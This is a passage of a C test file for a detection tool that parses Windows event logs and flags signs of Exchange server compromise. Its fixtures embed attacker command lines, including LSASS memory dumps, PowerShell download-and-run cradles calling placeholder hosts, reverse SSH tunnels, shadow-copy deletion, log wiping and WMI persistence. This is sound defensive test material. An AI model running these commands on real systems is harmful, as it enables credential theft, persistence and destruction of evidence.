/* The event-record reader (hunt/event.c) and each event check on golden
 * records shaped as libevtx renders them: what each must find, and the
 * benign look-alikes it must leave at low or informational. */
#include "hunt/detect.h"
#include "hunt/event.h"
#include "base/buf.h"
#include "base/err.h"
#include "check.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* record ids differ per source line: a log never repeats one */
#define LINE_ID2(n) #n
#define LINE_ID(n) LINE_ID2(n)
#define EV(prov, chan, id, level, data)                                        \
	"<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/"      \
	"event\">\n  <System>\n    <Provider Name=\"" prov "\"/>\n    "         \
	"<EventID>" #id "</EventID>\n    <Level>" #level "</Level>\n    "       \
	"<TimeCreated SystemTime=\"2021-03-03T04:05:06.1234567Z\"/>\n    "     \
	"<EventRecordID>" LINE_ID(__LINE__) "</EventRecordID>\n    <Channel>" chan \
	"</Channel>\n    <Computer>EX01.corp.example</Computer>\n  "          \
	"</System>\n  " data "\n</Event>\n"
#define D(n, v) "<Data Name=\"" n "\">" v "</Data>"
/* A script block logged whole, in one 4104 event */
#define BLOCK(text, id)                                                        \
	EV("Microsoft-Windows-PowerShell",                                     \
	   "Microsoft-Windows-PowerShell/Operational", 4104, 5,                \
	   "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")        \
	       D("ScriptBlockText", text)                                      \
	           D("ScriptBlockId", id) "</EventData>")

static void reader(void)
{
	struct event *e = malloc(sizeof *e);
	static const char xml[] = EV(
	    "MSExchange Unified Messaging", "Application", 100, 2,
	    "<EventData><Data>a &lt;b&gt; &amp; &#x41;&#66;</Data>"
	    "<Data Name=\"X\"/><Data>System.InvalidCastException</Data>"
	    "</EventData>");
	static const char user[] =
	    "<Event><System><EventID>1102</EventID><TimeCreated "
	    "SystemTime=\"bad\"/></System><UserData><LogFileCleared><"
	    "SubjectUserName>mallory</SubjectUserName></LogFileCleared></"
	    "UserData></Event>";

	CHECK(e != NULL);
	CHECK(event_parse_xml(xml, sizeof xml - 1, e) == 0);
	CHECK(e->event_id == 100 && e->level == 2 && e->record_id > 0);
	CHECK_STR(e->time, "2021-03-03T04:05:06Z");
	CHECK_STR(e->provider, "MSExchange Unified Messaging");
	CHECK_STR(e->channel, "Application");
	CHECK_STR(event_get(e, "0"), "a <b> & AB"); /* entities decoded */
	CHECK_STR(event_get(e, "x"), "");           /* empty, by any case */
	CHECK_STR(event_get(e, "2"), "System.InvalidCastException");
	CHECK(e->nv == 3);
	CHECK(event_parse_xml(user, sizeof user - 1, e) == 0);
	CHECK(e->time[0] == '\0'); /* a bad time is unknown, not guessed */
	CHECK_STR(event_get(e, "SubjectUserName"), "mallory");
	/* not an event: no EventID, or not XML at all */
	CHECK(event_parse_xml("<Event><System/></Event>", 24, e) == EXH_EINVAL);
	CHECK(event_parse_xml("garbage", 7, e) == EXH_EINVAL);
	/* unbalanced and deep nesting stay bounded */
	{
		char deep[4000] = "<Event><System><EventID>1</EventID></System>";
		size_t n = strlen(deep);
		for (int i = 0; i < 300 && n + 8 < sizeof deep; i++, n += 3)
			memcpy(deep + n, "<a>", 3);
		deep[n] = '\0';
		CHECK(event_parse_xml(deep, n, e) == 0);
		CHECK(e->truncated);
	}
	free(e);
}

static const struct {
	const char *name;
	const char *xml[3];
	const char *kind; /* NULL: nothing above informational or low */
	int cve;
	enum hunt_level level;
} cases[] = {
    {"26857 UM error",
     {EV("MSExchange Unified Messaging", "Application", 100, 2,
         "<EventData>" D(
             "0",
             "Deserialization failed: "
             "System.InvalidCastException: Unable to cast") "</EventData>")},
     "um-deserialization",
     HC_26857,
     HL_EXPLOITED},
    {"China Chopper's wrapper, no parent named (4688 of 2012 R2)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\cmd.exe")
             D("CommandLine",
               "cmd /c cd /d "
               "\"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo "
               "[S]&cd&echo "
               "[E]") "</EventData>")},
     "chopper-command",
     HC_NONE,
     HL_NOT_SEEN},
    {"native IIS module installed from ProgramData",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\inetsrv\\appcmd.exe")
             D("CommandLine", "appcmd.exe install module /name:ProxyHelper "
                              "/image:C:\\ProgramData\\Microsoft\\iis\\ph.dll")
                 D("ParentImage",
                   "C:\\Windows\\System32\\cmd.exe") "</EventData>")},
     "iis-global-module",
     HC_NONE,
     HL_NOT_SEEN},
    {"virtual directory onto ProgramData",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\inetsrv\\appcmd.exe")
             D("CommandLine", "appcmd add vdir /app.name:\"Default Web Site/\" "
                              "/path:/owa/s /physicalPath:C:\\ProgramData\\COM")
                 D("ParentImage",
                   "C:\\Windows\\System32\\cmd.exe") "</EventData>")},
     "iis-vdir-odd",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's virtual directory under inetpub",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\inetsrv\\appcmd.exe")
             D("CommandLine", "appcmd add vdir /app.name:\"Default Web Site/\" "
                              "/path:/docs /physicalPath:D:\\inetpub\\docs")
                 D("ParentImage", "C:\\Windows\\explorer.exe") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"native module added by IIS's cmdlet (4104)",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
             D("ScriptBlockText",
               "Import-Module WebAdministration; New-WebGlobalModule -Name "
               "CacheHelper -Image "
               "C:\\Users\\Public\\Libraries\\ch.dll")
                 D("ScriptBlockId", "{1b2c}") "</EventData>")},
     "iis-global-module",
     HC_NONE,
     HL_NOT_SEEN},
    {"an administrator's task, its XML naming its schema by URL (4698)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Exchange Nightly Backup") D(
             "TaskContent",
             "&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;&lt;Task "
             "version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/"
             "2004/02/mit/task\"&gt;&lt;Actions "
             "Context=\"Author\"&gt;&lt;Exec&gt;&lt;Command&gt;C:\\Program "
             "Files\\Veritas\\Backup Exec\\bemcmd.exe&lt;/"
             "Command&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;") "</"
                                                                      "EventDat"
                                                                      "a>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"a task running PowerShell from ProgramData, as XML (4698)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Updater")
             D("TaskContent",
               "&lt;Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/"
               "mit/task\"&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;"
               "powershell.exe&lt;/Command&gt;&lt;Arguments&gt;-ep bypass -f "
               "C:\\ProgramData\\u.ps1&lt;/Arguments&gt;&lt;/Exec&gt;&lt;/"
               "Actions&gt;&lt;/Task&gt;") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"ViewState with a gadget rejected (1316)",
     {EV("ASP.NET 4.0.30319.0", "Application", 1316, 3,
         "<EventData>" D("0", "4009")
             D("1",
               "Viewstate verification failed. Reason: The viewstate supplied "
               "failed integrity check.")
                 D("2", "ViewStateException information: "
                        "Exception message: Invalid "
                        "viewstate. Client IP: "
                        "198.51.100.7 Port: 49603 Path: "
                        "/ecp/default.aspx ViewState: "
                        "/wEyAAEAAAAMAlN5c3RlbS5EZWxlZ2F0ZV"
                        "NlcmlhbGl6YXRpb25Ib2xkZXIgVHlwZUNv"
                        "bmZ1c2VEZWxlZ2F0ZSBTeXN0ZW0uRGlhZ2"
                        "5vc3RpY3MuUHJvY2VzcyBTdGFydCBjbWQg"
                        "L2Mgd2hvYW1p") "</EventData>")},
     "viewstate-gadget",
     HC_NONE,
     HL_ATTEMPTED},
    {"ViewState of an expired page rejected (1316)",
     {EV("ASP.NET 4.0.30319.0", "Application", 1316, 3,
         "<EventData>" D("0", "4009")
             D("1", "Viewstate verification failed. Reason: Viewstate was "
                    "invalid.")
                 D("2", "ViewStateException information: "
                        "Client IP: 10.0.0.9 PersistedState: "
                        "/wEPDwUKLTEyMzQ1Njc4OWRk") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"UM error of another kind",
     {EV("MSExchange Unified Messaging", "Application", 100, 2,
         "<EventData>" D("0", "The mailbox is full") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"UMWorkerProcess starts cmd",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\cmd.exe")
             D("ParentImage", "C:\\Program Files\\Microsoft\\Exchange "
                              "Server\\V15\\Bin\\UMWorkerProcess.exe")
                 D("CommandLine", "cmd /c whoami") "</EventData>")},
     "um-process-spawn",
     HC_26857,
     HL_EXPLOITED},
    {"w3wp starts powershell",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                         "powershell.exe")
             D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
                 D("CommandLine", "powershell -ep bypass") "</EventData>")},
     "exchange-process-spawn",
     HC_NONE,
     HL_NOT_SEEN},
    {"w3wp compiles a page (csc)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\Microsoft.NET\\Framework64\\"
                         "v4.0.30319\\csc.exe")
             D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
                 D("CommandLine",
                   "csc.exe /noconfig @x.cmdline") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"comsvcs MiniDump",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\rundll32.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "rundll32 C:\\windows\\system32\\comsvcs.dll"
                                  ", MiniDump 624 C:\\inetpub\\wwwroot\\l.dmp "
                                  "full") "</EventData>")},
     "lsass-dump",
     HC_NONE,
     HL_NOT_SEEN},
    {"ProcDump, full dump of a process id",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Users\\Public\\procdump64.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "procdump64.exe -accepteula -ma 624 "
                                  "C:\\Users\\Public\\m.dmp") "</EventData>")},
     "process-dump",
     HC_NONE,
     HL_NOT_SEEN},
    {"SQLDumper, full dump of a process id",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Program Files\\Microsoft SQL Server\\"
                                  "90\\Shared\\SQLDumper.exe")
             D("ParentImage", "C:\\Windows\\System32\\cmd.exe") D(
                 "CommandLine", "sqldumper.exe 624 0 0x0110") "</EventData>")},
     "process-dump",
     HC_NONE,
     HL_NOT_SEEN},
    {"rdrleakdiag naming LSASS",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\"
                                           "rdrleakdiag.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "rdrleakdiag.exe /p 624 /o C:\\Temp "
                                  "/fullmemdmp /wait 1 (lsass)") "</EventData>")},
     "lsass-dump",
     HC_NONE,
     HL_NOT_SEEN},
    {"ProcDump watching for a crash (no full dump asked)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Tools\\procdump.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "procdump.exe -e -w w3wp.exe") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"UMWorkerProcess writes an aspx",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
         4,
         "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
                                  "Server\\V15\\Bin\\UMWorkerProcess.exe")
             D("TargetFilename",
               "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx") "</EventData>")},
     "script-written-by-exchange",
     HC_26858,
     HL_EXPLOITED},
    {"UMWorkerProcess writes its cache",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
         4,
         "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
                                  "Server\\V15\\Bin\\UMWorkerProcess.exe")
             D("TargetFilename", "C:\\Program Files\\Microsoft\\Exchange "
                                 "Server\\V15\\UnifiedMessaging\\temp\\"
                                 "CacheCleanup.bin") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"service running cmd",
     {EV("Service Control Manager", "System", 7045, 4,
         "<EventData>" D("ServiceName", "updater")
             D("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -enc "
                            "SQBFAFgA") "</EventData>")},
     "service-installed",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's own service",
     {EV("Service Control Manager", "System", 7045, 4,
         "<EventData>" D("ServiceName", "Backup Agent")
             D("ImagePath",
               "\"C:\\Program Files\\Veeam\\agent.exe\"") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"added to Organization Management",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
         "<EventData>" D("MemberName", "CN=svc,CN=Users,DC=corp")
             D("TargetUserName", "Organization Management")
                 D("SubjectUserName", "EX01$") "</EventData>")},
     "group-member-added",
     HC_NONE,
     HL_NOT_SEEN},
    {"added to a mail group",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
         "<EventData>" D("MemberName", "CN=bob,CN=Users,DC=corp")
             D("TargetUserName", "Sales Team") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"task running a script",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Microsoft\\Windows\\Update")
             D("TaskContent",
               "&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/"
               "Command&gt;&lt;Arguments&gt;-f C:\\ProgramData"
               "\\u.ps1&lt;/Arguments&gt;&lt;/Exec&gt;") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows' own task (Server Manager's cscript)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D(
             "TaskName",
             "\\Microsoft\\Windows\\Server Manager\\CleanupOldPerfLogs")
             D("TaskContent",
               "&lt;URI&gt;\\Microsoft\\Windows\\Server Manager"
               "\\CleanupOldPerfLogs&lt;/URI&gt;&lt;Exec&gt;&lt;Command&gt;"
               "%systemroot%\\system32\\cscript.exe&lt;/Command&gt;"
               "&lt;Arguments&gt;/B /nologo %systemroot%\\system32"
               "\\calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)&lt;/"
               "Arguments&gt;&lt;/Exec&gt;") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"a task running a batch file dropped into System32",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Microsoft\\Windows\\Maint")
             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;C:\\Windows\\System32"
                              "\\cmd.exe&lt;/Command&gt;&lt;Arguments&gt;/c "
                              "C:\\Windows"
                              "\\System32\\svc.bat&lt;/Arguments&gt;&lt;/"
                              "Exec&gt;") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"a task running cscript on a script of another name in System32",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Microsoft\\Windows\\Perf")
             D("TaskContent",
               "&lt;Exec&gt;&lt;Command&gt;%systemroot%\\system32"
               "\\cscript.exe&lt;/Command&gt;&lt;Arguments&gt;/B "
               "%systemroot%\\system32\\perfsync.vbs&lt;/Arguments&gt;"
               "&lt;/Exec&gt;") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"a legitimate task",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Backup nightly") D(
             "TaskContent",
             "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
             "\\Backup\\run.exe&lt;/Command&gt;&lt;/Exec&gt;") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"security log cleared",
     {EV("Microsoft-Windows-Eventlog", "Security", 1102, 4,
         "<UserData><LogFileCleared><SubjectUserName>adm</SubjectUserName>"
         "</LogFileCleared></UserData>")},
     "log-cleared",
     HC_NONE,
     HL_NOT_SEEN},
    {"mailbox exported as aspx (management log)",
     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
         "<EventData>" D("0", "New-MailboxExportRequest")
             D("1", "-Mailbox \"a@b\" -FilePath "
                    "\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"
                    "s.aspx\"") "</EventData>")},
     "mailbox-export-to-aspx",
     HC_31207,
     HL_EXPLOITED},
    {"mailbox exported to a share (management log)",
     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
         "<EventData>" D("0", "New-MailboxExportRequest")
             D("1",
               "-Mailbox \"a@b\" -FilePath \"\\\\nas\\pst\\a.pst\"") "</"
                                                                     "EventData"
                                                                     ">")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"every message blind-copied out (management log)",
     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
         "<EventData>" D("0", "New-TransportRule")
             D("1", "-Name 'Journal' -BlindCopyTo 'keep@mailbox.example'")
                 "</EventData>")},
     "transport-rule-copy",
     HC_NONE,
     HL_NOT_SEEN},
    {"impersonation refused (management log, event 6)",
     {EV("MSExchange CmdletLogs", "MSExchange Management", 6, 2,
         "<EventData>" D("0", "New-ManagementRoleAssignment")
             D("1", "-Role 'ApplicationImpersonation' -User 'x'")
                 "</EventData>")},
     "impersonation-role",
     HC_NONE,
     HL_NOT_SEEN},
    {"forwarding set from a script block",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
             D("ScriptBlockText",
               "Set-Mailbox -Identity ceo -ForwardingSmtpAddress "
               "smtp:ceo@mailbox.example -DeliverToMailboxAndForward $true")
                 D("ScriptBlockId", "f1") "</EventData>")},
     "mailbox-forwarding",
     HC_NONE,
     HL_NOT_SEEN},
    {"a shared mailbox's member given access (management log)",
     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
         "<EventData>" D("0", "Add-MailboxPermission")
             D("1", "-Identity 'sales' -User 'alice' -AccessRights "
                    "'FullAccess'") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an event log cleared by wevtutil",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\wevtutil.exe")
             D("CommandLine", "wevtutil.exe cl \"MSExchange Management\"") "</EventData>")},
     "log-wipe",
     HC_NONE,
     HL_NOT_SEEN},
    {"an event log queried by wevtutil",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\wevtutil.exe")
             D("CommandLine", "wevtutil qe Security /c:5 /f:text") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"the change journal deleted",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\fsutil.exe")
             D("CommandLine", "fsutil usn deletejournal /D C:") "</EventData>")},
     "log-wipe",
     HC_NONE,
     HL_NOT_SEEN},
    {"shadow copies deleted",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
             D("CommandLine", "vssadmin.exe Delete Shadows /All /Quiet") "</EventData>")},
     "shadow-delete",
     HC_NONE,
     HL_NOT_SEEN},
    {"shadow copies listed",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe")
             D("CommandLine", "vssadmin list shadows") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an ngrok tunnel",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\ProgramData\\ngrok.exe")
             D("CommandLine", "ngrok.exe tcp 3389") "</EventData>")},
     "tunnel-tool",
     HC_NONE,
     HL_NOT_SEEN},
    {"a reverse SSH forward by plink",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Users\\Public\\plink.exe")
             D("CommandLine", "plink.exe -ssh -R 8443:127.0.0.1:443 u@198.51.100.9 -pw x") "</EventData>")},
     "tunnel-tool",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's plink",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Program Files\\PuTTY\\plink.exe")
             D("CommandLine", "plink.exe -batch admin@10.0.0.9 uptime") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an event log cleared from a script block",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
             D("ScriptBlockText",
               "Clear-EventLog -LogName Application,Security,System")
                 D("ScriptBlockId", "c1") "</EventData>")},
     "log-wipe",
     HC_NONE,
     HL_NOT_SEEN},
    {"a renamed plink forwarding RDP out",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\Temp\\svch.exe")
             D("CommandLine", "svch.exe -batch -R 0.0.0.0:3390:127.0.0.1:3389 -l u 198.51.100.9") "</EventData>")},
     "tunnel-tool",
     HC_NONE,
     HL_NOT_SEEN},
    {"robocopy's retry count",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\Robocopy.exe")
             D("CommandLine", "robocopy C:\\a D:\\b /R:3 /W:5") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"a port forwarded by netsh",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\netsh.exe")
             D("CommandLine", "netsh interface portproxy add v4tov4 listenport=3390 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.9") "</EventData>")},
     "port-proxy",
     HC_NONE,
     HL_NOT_SEEN},
    {"port forwarding listed",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\netsh.exe")
             D("CommandLine", "netsh interface portproxy show all") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"RDP switched on",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\reg.exe")
             D("CommandLine", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f") "</EventData>")},
     "rdp-enabled",
     HC_NONE,
     HL_NOT_SEEN},
    {"a WMI subscription running a command (WMI-Activity 5861)",
     {EV("Microsoft-Windows-WMI-Activity",
         "Microsoft-Windows-WMI-Activity/Operational", 5861, 4,
         "<UserData><Operation_ESStoConsumerBinding>"
         "<Namespace>//./root/subscription</Namespace>"
         "<ESS>upd</ESS><CONSUMER>CommandLineEventConsumer=\\\"upd\\\"</CONSUMER>"
         "<PossibleCause>Binding EventFilter: instance of __EventFilter "
         "{ Query = \\\"SELECT * FROM __InstanceModificationEvent WITHIN 60\\\"; }; "
         "Perm. Consumer: instance of CommandLineEventConsumer { "
         "CommandLineTemplate = \\\"powershell -enc SQBFAFgA\\\"; };</PossibleCause>"
         "</Operation_ESStoConsumerBinding></UserData>")},
     "wmi-persistence",
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows' own SCM event log consumer (WMI-Activity 5861)",
     {EV("Microsoft-Windows-WMI-Activity",
         "Microsoft-Windows-WMI-Activity/Operational", 5861, 4,
         "<UserData><Operation_ESStoConsumerBinding>"
         "<Namespace>//./root/subscription</Namespace>"
         "<ESS>SCM Event Log Filter</ESS>"
         "<CONSUMER>NTEventLogEventConsumer=\\\"SCM Event Log Consumer\\\"</CONSUMER>"
         "</Operation_ESStoConsumerBinding></UserData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"a WMI consumer running a script (Sysmon 20)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
         20, 4,
         "<EventData>" D("Operation", "Created") D("Name", "\\\"upd\\\"")
             D("Type", "Script") D("Destination", "GetObject(...)") "</EventData>")},
     "wmi-persistence",
     HC_NONE,
     HL_NOT_SEEN},
    {"a WMI subscription made in PowerShell",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
             D("ScriptBlockText",
               "Set-WmiInstance -Namespace root\\\\subscription -Class "
               "CommandLineEventConsumer -Arguments @{Name='u';"
               "CommandLineTemplate='cmd /c C:\\\\ProgramData\\\\u.bat'}")
                 D("ScriptBlockId", "w1") "</EventData>")},
     "wmi-persistence",
     HC_NONE,
     HL_NOT_SEEN},
    {"download cradle split over two 4104 parts",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "2") D("MessageTotal", "2")
             D("ScriptBlockText", "Net.WebClient).DownloadString('http://x/a')")
                 D("ScriptBlockId", "b1") "</EventData>"),
      EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "2")
             D("ScriptBlockText", "IEX (New-Object ")
                 D("ScriptBlockId", "b1") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"a program downloaded, then started",
     {BLOCK("(New-Object System.Net.WebClient).DownloadFile('http://"
            "198.51.100.7/u.exe', \"$env:PUBLIC\\u.exe\"); "
            "Start-Process \"$env:PUBLIC\\u.exe\"",
            "b4")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"a task reading its settings from a .json file",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Vendor\\Inventory")
             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
                              "\\Vendor\\inv.exe&lt;/Command&gt;&lt;"
                              "Arguments&gt;--config inv.json&lt;/Arguments"
                              "&gt;&lt;/Exec&gt;") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"a task running a JScript file",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
         "<EventData>" D("TaskName", "\\Vendor\\Check")
             D("TaskContent",
               "&lt;Exec&gt;&lt;Command&gt;C:\\Tools"
               "\\check.js&lt;/Command&gt;&lt;/Exec&gt;") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"task hidden (Security 4657, Index deleted)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4657, 0,
         "<EventData>" D("ObjectName",
                         "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT"
                         "\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Upd")
             D("ObjectValueName", "Index") D("OperationType", "%%1906")
                 D("NewValue", "") "</EventData>")},
     "hidden-task",
     HC_NONE,
     HL_NOT_SEEN},
    {"a task's Index written (Security 4657, not deleted)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4657, 0,
         "<EventData>" D("ObjectName",
                         "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT"
                         "\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Upd")
             D("ObjectValueName", "Index") D("OperationType", "%%1904")
                 D("NewValue", "3") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Mimikatz reads LSASS (Sysmon 10, unbacked frames)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 10,
         4,
         "<EventData>" D("SourceImage", "C:\\Users\\adm\\m64.exe")
             D("TargetImage",
               "C:\\Windows\\system32\\lsass.exe") D("GrantedAccess", "0x1010")
